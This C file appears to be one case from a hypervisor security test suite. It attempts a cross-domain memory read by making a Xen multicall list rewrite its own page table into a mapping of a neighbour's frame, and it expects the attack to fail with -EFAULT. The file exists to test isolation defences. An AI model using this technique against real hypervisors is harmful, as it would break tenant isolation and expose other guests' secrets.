/*
 * Way out: change what a list of calls lies in while it is worked off. The list begins in memory
 * that we may write; its first calls make a page table of the page in which its last one ends, and
 * the result of that one is an entry for the neighbour's frame.
 * Rule: a mapping is looked at when Xen writes, not when the list begins (do_multicall,
 * copy_to_guest).
 * Check: hypervisor.mm.guest_memory.GuestMemory._translate
 */
#include "attacks.h"

#define NR_CALLS 3

ATTACK(list_becomes_table, "-EFAULT")
{
    struct multicall_entry *last = (void *)(own[1] - sizeof(word)), *calls = last - (NR_CALLS - 1);
    struct mmu_update protect, hang;

    make_window();
    protect.ptr = entry_maddr(pt_walk((word)own[1], 1));
    protect.val = make_pte(virt_to_mfn(own[1]), READABLE);
    hang.ptr = entry_maddr(pt_walk(WINDOW, 2));
    hang.val = make_pte(virt_to_mfn(own[1]), WRITABLE);
    calls[0].op = calls[1].op = __HYPERVISOR_mmu_update;
    calls[0].args[0] = (word)&protect;
    calls[1].args[0] = (word)&hang;
    calls[0].args[1] = calls[1].args[1] = 1;
    calls[0].args[3] = calls[1].args[3] = DOMID_SELF;
    last->op = __HYPERVISOR_get_debugreg; /* args[0], in the table, is 0: DR0 */
    if (refused(hv_set_debugreg(0, (word)make_pte(neighbours_mfn, READABLE))) ||
        refused(hv_multicall(calls, NR_CALLS)) || refused((long)calls[0].result) ||
        refused((long)calls[1].result))
        return;
    window_shows_secret();
}
